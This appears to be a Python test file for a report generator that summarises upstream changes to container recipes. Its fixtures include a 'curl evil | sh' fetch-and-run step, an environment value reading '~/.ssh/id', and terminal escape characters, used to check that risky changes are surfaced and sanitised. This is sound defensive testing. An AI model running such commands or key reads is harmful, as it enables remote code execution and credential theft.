import json

from remuda.adapt.sync.difference import Change, Conflict, Overlay
from remuda.adapt.sync.model import Told
from remuda.adapt.sync.report import as_data, lines, value
from remuda.adapt.sync.trail import Commit, Move, Trail
from remuda.spec.lock import Locked

BEFORE = Locked(upstream="u", url="url", commit="a" * 40, date="2026-01-01", path="a.yml", recipe="", derived={})
AFTER = Locked(upstream="u", url="url", commit="b" * 40, date="2026-01-02", path="b.yml", recipe="", derived={})
MOVED = Commit("c" * 40, "2026-01-02", "Move \x1b[31mit\nnow")
CHANGES = (
    Change("image", "image", "i:1", "i:2"),
    Change("environment", "A", None, "1"),
    Change("environment", "B", "1", None),
    Change("patches", "/x.py", "./remuda.upstream/u/0/x.py:/x.py:ro", None),
    Change("steps", "curl evil | sh", None, "curl evil | sh"),
)
FOUND = Overlay(
    conflicts=(Conflict("limits", "max-model-len", 5, 6, 9),), redundant=(Change("flags", "dtype", "auto", "auto"),)
)


def test_a_report_in_words() -> None:
    told = Told("m", BEFORE, AFTER, Trail("b.yml", (Move(MOVED, "b.yml"),), (MOVED,)), CHANGES, FOUND, ("odd",))
    assert list(lines(told)) == [
        "m: aaaaaaaa → u b.yml @ bbbbbbbb (2026-01-02)",
        "  the recipe was moved to `b.yml` by cccccccc 2026-01-02 Move ?[31mit now",
        "  upstream commits that touched it: 1",
        "    cccccccc 2026-01-02 Move ?[31mit now",
        "  image:",
        "    ~ image: `i:1` → `i:2`",
        "  environment:",
        "    + A: `1`",
        "    - B: `1`",
        "  files of the repository (patches), which the container sees:",
        "    - /x.py: `u/0/x.py:ro` (absorbed or dropped upstream)",
        "  steps, which the container runs before the engine:",
        "    + curl evil | sh",
        "  conflict: limits max-model-len: it was `5`, upstream is now `6`, the model has `9`",
        "  the model says again what upstream says: flags dtype",
        "  not known: odd",
    ]


def test_a_report_as_data_is_json() -> None:
    told = Told("m", None, AFTER, Trail(None, (Move(MOVED, None),)), CHANGES, FOUND, ("odd",), ("x",), was_edited=True)
    data = json.loads(json.dumps(as_data(told)))
    assert data["from"] is None
    assert data["to"] == {"commit": "b" * 40, "date": "2026-01-02", "path": "b.yml"}
    assert (data["gone"], data["drift"], data["lock_edited"]) == (True, True, True)
    assert data["conflicts"] == [{"kind": "limits", "name": "max-model-len", "before": 5, "after": 6, "own": 9}]
    assert data["moves"][0]["path"] is None


def test_the_first_report_always_shows_what_is_run_and_shown_to_the_container() -> None:
    reading = Change("environment", "KEY", None, "${file:~/.ssh/id}")
    host = Change("keys", "network", None, "host")
    upstream = (*(Change("environment", f"V{n}", None, "1") for n in range(70)), reading, CHANGES[4], host)
    told = Told("m", None, AFTER, Trail("b.yml"), overlay=Overlay(only_upstream=upstream))
    assert list(lines(told)) == [
        "m: new, from u b.yml @ bbbbbbbb (2026-01-02)",
        "  taken over: 70 environment",
        "  only upstream:",
        "    environment + KEY: `${file:~/.ssh/id}`",
        "    steps + curl evil | sh",
        "    keys + network: `host`",
    ]


def test_nothing_to_tell_is_one_line() -> None:
    assert list(lines(Told("m", AFTER, AFTER, Trail("b.yml"), overlay=Overlay(redundant=CHANGES)))) == [
        "m: up to date with u b.yml @ bbbbbbbb (2026-01-02)"
    ]


def test_values() -> None:
    shown = [value(found) for found in (None, "a\nb", {"a": [1]}, False, "x" * 200, "\u202e")]
    assert shown == ["nothing", "`a b`", '`{"a": [1]}`', "`false`", f"`{'x' * 100}…`", "`?`"]
